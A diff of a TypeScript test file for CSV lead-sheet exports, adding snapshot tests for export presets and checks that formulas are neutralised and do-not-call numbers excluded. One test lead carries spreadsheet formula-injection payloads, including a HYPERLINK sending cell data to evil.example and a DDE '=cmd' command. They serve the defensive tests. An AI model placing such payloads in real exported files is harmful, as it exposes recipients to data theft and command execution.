@@ -1,26 +1,23 @@
 import { describe, expect, test } from 'vitest'
 import { guardCell, writeCsv } from '#contract/csv.ts'
+import { FILE_PRESET_LIST } from '#contract/delivery/file-presets.ts'
 import { FORGOTTEN, leadSheet, WITHDRAWN } from '#contract/delivery/lead-sheet.ts'
 import { workbookRows } from '#testing/workbook-rows.ts'
 import { type OrderedLeadRow, workbookOf } from './make-files.ts'
+import { presetSheet } from './preset-columns.ts'
 
 const PLACE = { state: 'Texas', county: 'Travis', leadTypeName: 'Vacant Houses', timeZone: 'America/Chicago' }
-const SOLD_AT = new Date('2026-11-21T10:00:00Z')
-
+const NO_PARTS = { owner_first_name: null, owner_last_name: null, owner_company: null }
+const NO_STREET = { mailing_street: null, mailing_city: null, mailing_state: null, mailing_zip: null }
 const aLead = (lead: Partial<OrderedLeadRow> = {}): OrderedLeadRow => ({
   acquired_at: new Date('2026-11-18T12:00:00Z'),
-  sold_at: SOLD_AT,
+  sold_at: new Date('2026-11-21T10:00:00Z'),
   address: '1 Elm St',
   city: 'Austin',
-  zip: '01234',
+  zip: '78701',
   owner_names: ['Ann Owner'],
-  owner_first_name: null,
-  owner_last_name: null,
-  owner_company: null,
-  mailing_street: null,
-  mailing_city: null,
-  mailing_state: null,
-  mailing_zip: null,
+  ...NO_PARTS,
+  ...NO_STREET,
   mailing_address: null,
   phones: [],
   emails: [],
@@ -39,60 +36,10 @@ function cellsOf(...leads: OrderedLeadRow[]): Record<string, unknown> {
 }
 
 describe('a row', () => {
-  test('contains everything known about a lead', () => {
-    const cells = cellsOf(
-      aLead({
-        owner_names: ['Ann Owner', 'Bob Owner'],
-        owner_first_name: 'Ann',
-        owner_last_name: 'Owner',
-        mailing_address: 'PO Box 1, Austin, TX 01234',
-        mailing_street: 'PO Box 1',
-        mailing_city: 'Austin',
-        mailing_state: 'TX',
-        mailing_zip: '01234',
-        phones: [
-          { number: '+15125550100', kind: 'mobile', isDoNotCall: true },
-          { number: '+442079460000', kind: 'landline', isDoNotCall: false },
-        ],
-        emails: ['ann@example.com'],
-        facts: { valueCents: 31_250_050, equityPercent: 40, beds: 3, yearBuilt: 1962, lastSaleOn: '2001-05-09' },
-        consent: 'Web form, 2026-11-01',
-      }),
-    )
-
-    expect(cells).toEqual({
-      Address: '1 Elm St',
-      City: 'Austin',
-      State: 'Texas',
-      ZIP: '01234',
-      County: 'Travis',
-      'Lead type': 'Vacant Houses',
-      Owner: 'Ann Owner; Bob Owner',
-      'Owner first name': 'Ann',
-      'Owner last name': 'Owner',
-      'Owner company': null,
-      'Mailing address': 'PO Box 1, Austin, TX 01234',
-      'Mailing street': 'PO Box 1',
-      'Mailing city': 'Austin',
-      'Mailing state': 'TX',
-      'Mailing ZIP': '01234',
-      'Phone 1': '512-555-0100',
-      'Phone 1 kind': 'Mobile',
-      'Phone 1 do not call': 'Yes',
-      'Phone 2': '00442079460000',
-      'Phone 2 kind': 'Landline',
-      'Phone 2 do not call': 'No',
-      'Email 1': 'ann@example.com',
-      Value: 312_500.5,
-      'Equity percent': 40,
-      Beds: 3,
-      'Year built': 1962,
-      'Last sale': '2001-05-09',
-      Consent: 'Web form, 2026-11-01',
-      'Date found': '2026-11-18',
-      'Age in days': 2,
-      Source: 'County records',
-    })
+  test('has amounts as numbers, and ZIPs and foreign telephone numbers as text', () => {
+    const phones = [{ number: '+442079460000', kind: 'landline', isDoNotCall: false } as const]
+    const cells = cellsOf(aLead({ zip: '01234', phones, facts: { valueCents: 31_250_050, beds: 3 } }))
+    expect(cells).toMatchObject({ ZIP: '01234', 'Phone 1': '00442079460000', Value: 312_500.5, Beds: 3 })
   })
 
   test('gives the day a lead was found in the store’s time zone', () => {
@@ -166,4 +113,96 @@ describe('hostile names', () => {
       HOSTILE.map((name) => guardCell(name).toWellFormed().replaceAll('\u0001', '')),
     )
   })
+})
+
+const phone = (last: number, kind: 'mobile' | 'landline' | 'voip' | 'unknown', isDoNotCall = false) => ({
+  number: `+1512555010${last}`,
+  kind,
+  isDoNotCall,
+})
+
+/**
+ * The files for other tools are compared with files that were read by a person. After a change on purpose, run this test
+ * with `-u` and read what changed in `preset-files`.
+ */
+const LEADS: readonly OrderedLeadRow[] = [
+  aLead({
+    owner_names: ['Mary Ann Van Dyke', 'Bob, Jr. "Bobby" Van Dyke'],
+    owner_first_name: 'Mary Ann',
+    owner_last_name: 'Van Dyke',
+    mailing_address: 'PO Box 9, Rear, Boston, MA 02101',
+    mailing_street: 'PO Box 9, Rear',
+    mailing_city: 'Boston',
+    mailing_state: 'MA',
+    mailing_zip: '02101',
+    phones: [phone(0, 'landline'), phone(1, 'mobile', true), phone(2, 'mobile'), phone(3, 'voip'), phone(4, 'unknown')],
+    emails: ['mary@example.com', 'ann@example.com'],
+    facts: { valueCents: 31_250_050, equityPercent: 74, beds: 3, yearBuilt: 1978, lastSaleOn: '2003-06-17' },
+    consent: 'Web form, 2026-11-01',
+  }),
+  aLead({
+    address: '2 Elm St, Unit "B"',
+    owner_names: ['Oak, Hill & Sons LLC'],
+    mailing_address: '7 Main St, Winston-Salem, NC 27101-0042',
+    phones: [phone(5, 'landline')],
+  }),
+  aLead({
+    address: '3 Peña St',
+    owner_names: ['=HYPERLINK("http://evil.example/?"&A1,"Call me")'],
+    owner_first_name: '=cmd|"/C calc"!A0',
+    owner_last_name: '@SUM(A1)',
+    owner_company: '+1+1',
+    mailing_address: '-2+3',
+    emails: ['-2+3@example.com'],
+    phones: [phone(6, 'mobile')],
+    is_do_not_call: true,
+    source: '\t=1+1',
+  }),
+  aLead({ address: '4 Elm St', owner_names: ['王 小明 Nguyễn'], mailing_address: 'Apartado 5, San José' }),
+  aLead({ address: null, city: null, zip: null, owner_names: null, source: null, phones: null, is_left_alone: true }),
+  aLead({ address: '6 Elm St', owner_names: ['Opted Out'], is_left_alone: true, phones: [phone(7, 'mobile')] }),
+]
+
+test('the plain file has the columns and cells that its buyers know, with the parts beside them', async () => {
+  await expect(writeCsv(leadSheet(LEADS, PLACE))).toMatchFileSnapshot('preset-files/plain.csv')
+})
+
+describe.each(FILE_PRESET_LIST)('the file for %s', (preset) => {
+  const rows = presetSheet(preset, LEADS, PLACE)
+  const text = writeCsv(rows)
+
+  test('is the file that was read by a person', async () => {
+    await expect(text).toMatchFileSnapshot(`preset-files/${preset}.csv`)
+  })
+
+  test('has each column once, and the same ones whatever is in it', () => {
+    const [header = []] = rows
+    expect(new Set(header.map((name) => String(name).toLowerCase())).size).toBe(header.length)
+    expect(presetSheet(preset, [], PLACE)).toEqual([header])
+    for (const row of rows) expect(row).toHaveLength(header.length)
+  })
+
+  test('starts no cell like a formula', () => {
+    const cells = text.split(/,|\r\n/).map((cell) => cell.replace(/^"/, ''))
+    expect(cells.filter((cell) => /^[=+\-@\t]/.test(cell))).toEqual([])
+    if (preset !== 'dialer') expect(cells.filter((cell) => cell.startsWith("'")).length).toBeGreaterThanOrEqual(6)
+  })
+
+  test('has no lead whose owner opted out, and no number that must not be called in a phone column', () => {
+    const [header = [], ...leads] = rows
+    const phones = header.flatMap((name, at) =>
+      /phone/i.test(String(name)) && !/not call|type/i.test(String(name)) ? [at] : [],
+    )
+    expect(text).not.toMatch(/Opted Out|6 Elm St|Withdrawn/)
+    expect(phones.length).toBeGreaterThan(0)
+    for (const row of leads) for (const at of phones) expect(String(row[at])).not.toMatch(/5125550101|5125550106/)
+  })
+})
+
+test('a dialer gets a row for each phone that may be called, and none for an owner without one', () => {
+  const [header = [], ...rows] = presetSheet('dialer', LEADS, PLACE)
+  expect(rows.map((row) => row[header.indexOf('Phone')])).toEqual([
+    ...['5125550100', '5125550102', '5125550103', '5125550104'],
+    '5125550105',
+  ])
 })
